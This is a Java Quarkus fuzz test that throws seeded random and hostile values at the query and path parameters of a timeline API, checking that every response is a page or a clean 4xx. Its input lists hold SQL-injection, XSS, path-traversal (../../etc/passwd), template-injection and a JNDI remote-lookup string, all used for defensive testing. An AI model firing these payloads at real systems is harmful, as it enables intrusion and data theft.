package dev.geotimeline.hostile;

import static dev.geotimeline.hostile.HostileChecks.assertFieldProblem;
import static dev.geotimeline.hostile.HostileChecks.assertPage;
import static dev.geotimeline.hostile.HostileChecks.assertSafe;
import static dev.geotimeline.hostile.HostileChecks.enc;
import static dev.geotimeline.hostile.HostileChecks.show;
import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;

import com.fasterxml.jackson.databind.JsonNode;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;

/**
 * Seeded random and hostile values for every query and path parameter of the timeline and list endpoints.
 * Every answer must be 200 with a page, or a well-formed 4xx problem+json; never a 5xx or a leak.
 * Failing inputs are printed in the assertion message (control characters escaped).
 */
@QuarkusTest
class TimelineParameterFuzzTest {

    private static final long SEED = 20250213L;
    private static final AtomicInteger REQUESTS = new AtomicInteger();

    static final List<String> TIMELINE_FILTERS =
            List.of("includeSublocations", "type", "from", "to", "q", "order", "cursor", "limit");

    /** endpoint → its query parameters. */
    static final List<Endpoint> ENDPOINTS = List.of(
            new Endpoint("/api/v1/timeline", true, concat(List.of("actor", "location"), TIMELINE_FILTERS)),
            new Endpoint(
                    "/api/v1/actors/vladimir-putin/timeline",
                    true,
                    concat(List.of("with", "location"), TIMELINE_FILTERS)),
            new Endpoint("/api/v1/locations/syria/timeline", true, concat(List.of("actor"), TIMELINE_FILTERS)),
            new Endpoint("/api/v1/actors", true, List.of("q", "kind", "cursor", "limit")),
            new Endpoint("/api/v1/locations", true, List.of("q", "kind", "within", "cursor", "limit")));

    static final List<String> HOSTILE = List.of(
            "",
            " ",
            "\t",
            "' OR 1=1 --",
            "'; DROP TABLE event;--",
            "%' OR '1'='1",
            "1 union select null--",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "%00",
            "\u0000",
            "a\u0000b",
            "\r\n",
            "\u001b[31m",
            "../../etc/passwd",
            "..%2F..%2F",
            "${jndi:ldap://x/a}",
            "#{7*7}",
            "{{7*7}}",
            "\\",
            "\"",
            "null",
            "undefined",
            "true",
            "NaN",
            "Infinity",
            "-1",
            "0",
            "-0",
            "1.5",
            "1e9",
            "0x10",
            "2147483648",
            "-2147483649",
            "9223372036854775808",
            "99999999999999999999999999",
            "+1",
            " 5 ",
            "٣",
            "２０",
            "أحمد الشرع",
            "🇸🇾🔥",
            "\uD83D",
            "\uFEFF2024",
            "ＤＥＳＣ",
            "DESC",
            "asc,desc",
            "CONSULT,,",
            ",",
            "consult",
            "CONSULT,WAR",
            "PERSON",
            "person",
            "*",
            "%",
            "_",
            "2024-02-29",
            "2023-02-29",
            "0000",
            "9999-12-31",
            "10000",
            "-2024",
            "2024-12~",
            "2024-12?",
            "2024-12%",
            "2025-02-03/2025-02-09",
            "2025-02-09/2025-02-03",
            "2020/2025",
            "../2025",
            "djE6MTox",
            "djE6",
            "====",
            "v1:1:1",
            "djE6OTIyMzM3MjAzNjg1NDc3NTgwNzo5MjIzMzcyMDM2ODU0Nzc1ODA3",
            "vladimir-putin",
            "syria",
            "al-jolani");

    static final List<String> EDTF_EDGES = List.of(
            "2024-02-29",
            "2023-02-29",
            "2025-02-30",
            "0000",
            "0001",
            "9999",
            "9999-12-31",
            "10000",
            "-2024",
            "-0001",
            "2024-12~",
            "2024-12?",
            "2024-12%",
            "2024~",
            "2024-12-08~",
            "2025-02-03/2025-02-09",
            "2024-01-01/2025-12-31",
            "2025-02-09/2025-02-03",
            "2020/2025",
            "../2025",
            "2025/..",
            "2024-13",
            "2024-00",
            "2024-12-00",
            "2024-12-32",
            "2024-W05",
            "2024-21",
            "Y170000002",
            "2024-1-1",
            "2024-12-1",
            "20241201",
            "2024-12-01T00:00",
            "2024-12-01Z",
            "+2024",
            "1e3",
            "2024-02-29/2024-03-01",
            "1582-10-10",
            "0000-01-01",
            "9999-12-31/9999-12-31",
            "2024-XX",
            "2024-12-XX",
            "yesterday",
            "");

    record Endpoint(String path, boolean paged, List<String> params) {}

    static List<String> concat(List<String> a, List<String> b) {
        List<String> all = new ArrayList<>(a);
        all.addAll(b);
        return all;
    }

    // ---------------------------------------------------------------- generators

    static String randomUnicode(Random random, int maxLength) {
        int length = random.nextInt(maxLength + 1);
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < length; i++) {
            int kind = random.nextInt(6);
            int cp = switch (kind) {
                case 0 -> 0x20 + random.nextInt(0x5f); // printable ASCII
                case 1 -> random.nextInt(0x20); // control characters
                case 2 -> 0x600 + random.nextInt(0x100); // Arabic
                case 3 -> 0x1F300 + random.nextInt(0x300); // emoji
                case 4 -> 0x300 + random.nextInt(0x70); // combining marks
                default -> 0xA0 + random.nextInt(0xD700 - 0xA0); // anywhere in the BMP below surrogates
            };
            b.appendCodePoint(cp);
        }
        return b.toString();
    }

    static String randomNumber(Random random) {
        return switch (random.nextInt(6)) {
            case 0 -> Integer.toString(random.nextInt());
            case 1 -> Long.toString(random.nextLong());
            case 2 ->
                Double.toString(
                        random.nextDouble() * Math.pow(10, random.nextInt(40)) * (random.nextBoolean() ? 1 : -1));
            case 3 -> "9".repeat(1 + random.nextInt(60));
            case 4 -> "-" + random.nextInt(1000);
            default -> Integer.toString(random.nextInt(400));
        };
    }

    static String randomEdtf(Random random) {
        String year = String.format("%0" + (1 + random.nextInt(5)) + "d", random.nextInt(100000));
        if (random.nextInt(5) == 0) {
            year = "-" + year;
        }
        StringBuilder b = new StringBuilder(year);
        if (random.nextBoolean()) {
            b.append('-').append(String.format("%02d", random.nextInt(15)));
            if (random.nextBoolean()) {
                b.append('-').append(String.format("%02d", random.nextInt(34)));
            }
        }
        switch (random.nextInt(6)) {
            case 0 -> b.append('~');
            case 1 -> b.append('?');
            case 2 -> b.append('/').append(randomEdtf(random));
            default -> {}
        }
        return b.toString();
    }

    static String randomValue(Random random) {
        return switch (random.nextInt(5)) {
            case 0 -> randomUnicode(random, 40);
            case 1 -> randomNumber(random);
            case 2 -> randomEdtf(random);
            case 3 -> HOSTILE.get(random.nextInt(HOSTILE.size())) + randomUnicode(random, 4);
            default -> HOSTILE.get(random.nextInt(HOSTILE.size()));
        };
    }

    // ---------------------------------------------------------------- requests

    /** GET with the URL built by hand, every value percent-encoded (no second encoding by REST Assured). */
    static Response get(String path, List<String[]> params) {
        StringBuilder url = new StringBuilder(path);
        char sep = '?';
        for (String[] p : params) {
            url.append(sep).append(p[0]).append('=').append(enc(p[1]));
            sep = '&';
        }
        REQUESTS.incrementAndGet();
        return given().urlEncodingEnabled(false)
                .accept("application/json")
                .when()
                .get(url.toString());
    }

    static String describe(String path, List<String[]> params) {
        StringBuilder b = new StringBuilder("GET ").append(path);
        char sep = '?';
        for (String[] p : params) {
            b.append(sep).append(p[0]).append("=[").append(show(p[1])).append(']');
            sep = '&';
        }
        return b.toString();
    }

    static JsonNode check(Endpoint endpoint, List<String[]> params) {
        Response response = get(endpoint.path(), params);
        String request = describe(endpoint.path(), params);
        JsonNode body = assertSafe(response, request);
        if (response.statusCode() == 200) {
            assertPage(body, request + " -> " + show(response.asString()));
        } else if (response.statusCode() == 400 && params.size() == 1) {
            String name = params.get(0)[0];
            assertFieldProblem(response, 400, request, field -> field.equals(name));
        }
        return body;
    }

    // ---------------------------------------------------------------- tests

    /** 38 endpoint/parameter pairs × 11 values (5 hostile, 6 random) = 418 requests. */
    @Test
    void everyQueryParameterSurvivesRandomAndHostileValues() {
        Random random = new Random(SEED);
        for (Endpoint endpoint : ENDPOINTS) {
            for (String param : endpoint.params()) {
                for (int i = 0; i < 11; i++) {
                    String value = i < 5 ? HOSTILE.get(random.nextInt(HOSTILE.size())) : randomValue(random);
                    check(endpoint, List.<String[]>of(new String[] {param, value}));
                }
            }
        }
    }

    /** 43 EDTF edge cases for from and for to on /timeline = 86 requests. */
    @Test
    void edtfEdgeCasesForFromAndTo() {
        Endpoint timeline = ENDPOINTS.get(0);
        for (String param : List.of("from", "to")) {
            for (String value : EDTF_EDGES) {
                check(timeline, List.<String[]>of(new String[] {param, value}));
            }
        }
        // dates that are certainly valid answer 200, certainly invalid ones a 400 naming the parameter
        for (String valid :
                List.of("2024-02-29", "2024-12", "2015", "2024-12~", "2025-02-03/2025-02-09", "9999-12-31")) {
            Response r = get(timeline.path(), List.<String[]>of(new String[] {"from", valid}));
            assertEquals(200, r.statusCode(), "from=" + valid + " -> " + r.asString());
        }
        for (String invalid : List.of(
                "2023-02-29",
                "2025-02-30",
                "2024-13",
                "2024-00",
                "2024-12-00",
                "2024-12-32",
                "2024-1-1",
                "20241201",
                "yesterday")) {
            Response r = get(timeline.path(), List.<String[]>of(new String[] {"from", invalid}));
            assertFieldProblem(r, 400, "GET /api/v1/timeline?from=" + invalid, "from"::equals);
        }
    }

    /** Several random parameters at once on each endpoint: 5 × 12 = 60 requests. */
    @Test
    void randomCombinationsOfParameters() {
        Random random = new Random(SEED + 1);
        for (Endpoint endpoint : ENDPOINTS) {
            for (int i = 0; i < 12; i++) {
                List<String[]> params = new ArrayList<>();
                int count = 2 + random.nextInt(4);
                for (int j = 0; j < count; j++) {
                    String param = endpoint.params()
                            .get(random.nextInt(endpoint.params().size()));
                    params.add(new String[] {param, randomValue(random)});
                }
                check(endpoint, params);
            }
        }
    }

    /** Odd path parameters, percent-encoded, on 4 path shapes: 4 × 32 = 128 requests. */
    @Test
    void oddPathParameters() {
        Random random = new Random(SEED + 2);
        List<String> values = new ArrayList<>(List.of(
                "' OR 1=1 --",
                "<script>alert(1)</script>",
                "%00",
                "\u0000",
                "a/b",
                "..",
                ".",
                "%2F",
                "%252F",
                "a;b",
                "a?b",
                "a#b",
                "أحمد الشرع",
                "🔥",
                " ",
                "\t",
                "-1",
                "0",
                "99999999999999999999",
                "9223372036854775807",
                "-9223372036854775808",
                "1.0",
                "PUTIN",
                "Vladimir%20Putin",
                "al-jolani"));
        while (values.size() < 32) {
            values.add(randomUnicode(random, 30));
        }
        for (String shape : List.of(
                "/api/v1/actors/%s/timeline",
                "/api/v1/locations/%s/timeline", "/api/v1/actors/%s", "/api/v1/locations/%s")) {
            boolean timeline = shape.endsWith("timeline");
            for (String value : values) {
                String path = String.format(shape, enc(value));
                REQUESTS.incrementAndGet();
                Response response = given().urlEncodingEnabled(false)
                        .accept("application/json")
                        .when()
                        .get(path);
                String request = "GET " + String.format(shape, "[" + show(value) + "]") + " (sent as " + path + ")";
                JsonNode body = assertSafe(response, request);
                if (response.statusCode() == 200 && timeline) {
                    assertPage(body, request);
                }
            }
        }
    }

    /** Raw, not percent-encoded query strings the HTTP layer must decode or refuse: 12 requests (raw socket). */
    @Test
    void malformedPercentEncoding() throws Exception {
        List<String> failures = new ArrayList<>();
        for (String raw : List.of(
                "q=%",
                "q=%zz",
                "q=%E2%82",
                "q=%C0%AF",
                "q=%ED%A0%80",
                "from=%FF",
                "actor=%00",
                "limit=%2B5",
                "type=%",
                "cursor=%%%",
                "order=a%",
                "q=a&q=b")) {
            REQUESTS.incrementAndGet();
            RawHttp.Reply reply = RawHttp.get("/api/v1/timeline?" + raw);
            String request = "GET /api/v1/timeline?" + raw + " (raw bytes on the wire)";
            collect(failures, () -> {
                if (rejectedBeforeTheApplication(reply)) {
                    return;
                }
                JsonNode body = assertSafe(reply.asResponse(), request);
                if (reply.status() == 200) {
                    assertPage(body, request);
                }
            });
        }
        if (!failures.isEmpty()) {
            org.junit.jupiter.api.Assertions.fail(
                    failures.size() + " of 12 raw requests broke the contract:\n" + String.join("\n", failures));
        }
    }

    /**
     * Quarkus' HTTP layer validates the request URI before any application code runs and refuses an
     * undecodable one with a bare 400 (no body, nothing logged); the application cannot shape that answer.
     * Accepted only in exactly that form: status 400 and an empty body.
     */
    private static boolean rejectedBeforeTheApplication(RawHttp.Reply reply) {
        return reply.status() == 400
                && reply.contentType() == null
                && reply.body().isEmpty();
    }

    /**
     * Very long values (10 000 characters) for every query parameter of /timeline and for path parameters:
     * 12 requests. A too long request line must still be a problem+json (e.g. 414), never a bare error.
     */
    @Test
    void veryLongValues() {
        Random random = new Random(SEED + 3);
        Endpoint timeline = ENDPOINTS.get(0);
        List<String> failures = new ArrayList<>();
        for (String param : timeline.params()) {
            String value = "a".repeat(10_000);
            if (param.equals("q")) {
                value = randomUnicode(random, 0) + "word ".repeat(2_000);
            }
            String p = param;
            String v = value;
            collect(failures, () -> check(timeline, List.<String[]>of(new String[] {p, v})));
        }
        for (String shape : List.of("/api/v1/actors/%s/timeline", "/api/v1/locations/%s/timeline")) {
            String path = String.format(shape, "x".repeat(10_000));
            REQUESTS.incrementAndGet();
            collect(
                    failures,
                    () -> assertSafe(
                            given().urlEncodingEnabled(false).get(path), "GET " + String.format(shape, "x×10000")));
        }
        if (!failures.isEmpty()) {
            org.junit.jupiter.api.Assertions.fail(
                    failures.size() + " of 12 long-value requests broke the contract:\n" + String.join("\n", failures));
        }
    }

    static void collect(List<String> failures, Runnable check) {
        try {
            check.run();
        } catch (AssertionError e) {
            String message = e.getMessage();
            failures.add(
                    message.length() > 600
                            ? message.substring(0, 300) + " … " + message.substring(message.length() - 300)
                            : message);
        }
    }

    /** Moderately long values (1 000 characters, below the HTTP request-line limit): 10 requests. */
    @Test
    void longValuesBelowTheRequestLineLimit() {
        Endpoint timeline = ENDPOINTS.get(0);
        for (String param : timeline.params()) {
            check(timeline, List.<String[]>of(new String[] {param, "ab'<".repeat(250)}));
        }
    }

    @AfterAll
    static void report() {
        System.out.println("TimelineParameterFuzzTest sent " + REQUESTS.get() + " requests");
    }
}
